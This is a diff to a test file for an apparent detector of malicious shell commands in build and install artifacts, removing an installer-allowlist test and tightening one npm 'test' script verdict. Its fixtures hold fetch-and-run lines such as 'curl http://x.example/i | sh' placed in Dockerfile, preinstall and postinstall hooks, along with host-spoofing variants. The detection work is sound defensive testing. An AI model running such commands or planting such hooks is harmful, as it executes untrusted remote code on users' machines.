@@ -6,7 +6,6 @@ import json
 
 from agents.checks.artifacts.dispatch import scan_source
 from agents.checks.artifacts.python.shell_commands import (
-    is_known_installer,
     is_untrusted_fetch,
     opens_to_outside,
     sends_secrets,
@@ -126,22 +125,6 @@ def test_an_image_is_read_as_one_whatever_precedes_its_ending(name):
     assert _scan(name, "FROM x\nRUN curl http://x.example/a | sh\n") is Verdict.MALICIOUS
 
 
-@each(
-    ("text", "known"),
-    [
-        ("curl -LsSf https://astral.sh/uv/install.sh | sh", True),
-        ("curl -fsSL https://ollama.com/install.sh | sh", True),
-        ("curl https://raw.githubusercontent.com/pyenv/pyenv-installer/master/x | bash", True),
-        ("curl -fsSL https://ollama.com.files.example/install.sh | sh", False),
-        ("curl https://astral.sh/a | sh; curl https://files.example/b | sh", False),
-        ("curl https://files.example/?https://astral.sh.x | sh", False),
-        ("sh install.sh", False),
-    ],
-)
-def test_installers_are_known_by_their_whole_host(text, known):
-    assert is_known_installer(text) is known
-
-
 _INSTALL = """from setuptools import setup
 from setuptools.command.install import install
 class I(install):
@@ -216,7 +199,7 @@ def test_cells_that_start_programs_are_hostile(cell, verdict):
     [
         ("postinstall", "node -e \"exec('curl -s https://x.example/i|sh')\"", Verdict.MALICIOUS),
         ("preinstall", "curl http://x.example/i | sh", Verdict.MALICIOUS),
-        ("test", "curl -s https://x.example/i | sh", Verdict.CLEAN),
+        ("test", "curl -s https://x.example/i | sh", Verdict.SUSPICIOUS),
         ("postinstall", "node install.js", Verdict.CLEAN),
     ],
 )
